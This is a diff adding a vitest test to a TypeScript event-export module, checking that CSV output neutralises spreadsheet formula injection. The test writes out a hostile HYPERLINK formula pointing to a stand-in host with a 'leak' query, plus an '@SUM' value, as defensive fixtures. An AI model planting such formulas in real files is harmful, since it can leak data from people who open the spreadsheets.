@@ -1,6 +1,8 @@
 import { mkdtemp, readdir, readFile, rm } from 'node:fs/promises';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
+import { chainRecords } from '@educard/terminal-sdk/testing';
+import { parse } from 'csv-parse/sync';
 import { pino } from 'pino';
 import { afterEach, beforeEach, describe, expect, it } from 'vitest';
 import { Directory } from '../directory/index.js';
@@ -73,5 +75,40 @@ describe('the attendance export', () => {
     );
     await files.exportOutbox(MONDAY_MORNING + 86_400_000);
     expect(asked).toEqual(['s-1:2026-10-02', 's-1:2026-10-05']);
+  });
+});
+
+describe('the event export', () => {
+  it('writes hostile field values as text, never as a live formula', async () => {
+    const at = '2026-10-05T00:00:00.000Z';
+    const formula = '=HYPERLINK("http://x.invalid/?leak","open")';
+    const records = chainRecords('gate-01', [
+      { type: 'custom.note', at, data: { personId: formula, note: formula } },
+      { type: '@SUM(1+1)', at, data: {} },
+    ]);
+    store.commitRecords('gate-01', 's-1', records);
+    const files = new FileExchange({
+      store,
+      directory: new Directory(store.database),
+      roster: {} as RosterService,
+      state: new CentralState(store.database),
+      logger: pino({ level: 'silent' }),
+      inboxDir: join(dir, 'inbox'),
+      outboxDir: join(dir, 'outbox'),
+      importIntervalMs: 60_000,
+      exportIntervalMs: 60_000,
+    });
+    expect(await files.exportOutbox(MONDAY_MORNING)).toBe(2);
+    const name = (await readdir(join(dir, 'outbox'))).find((n) => n.endsWith('.csv')) as string;
+    const rows = parse(await readFile(join(dir, 'outbox', name), 'utf8'), { columns: true }) as Record<
+      string,
+      string
+    >[];
+    expect(rows.map((row) => row.person_id)).toEqual([`'${formula}`, '']);
+    expect(rows.map((row) => row.type)).toEqual(['custom.note', "'@SUM(1+1)"]);
+    for (const row of rows) for (const cell of Object.values(row)) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
+    // The JSON lines beside it keep the values as the device sent them: they are data, not a sheet.
+    const jsonl = await readFile(join(dir, 'outbox', name.replace('.csv', '.jsonl')), 'utf8');
+    expect(JSON.parse(jsonl.split('\n')[0] as string).record.data.personId).toBe(formula);
   });
 });
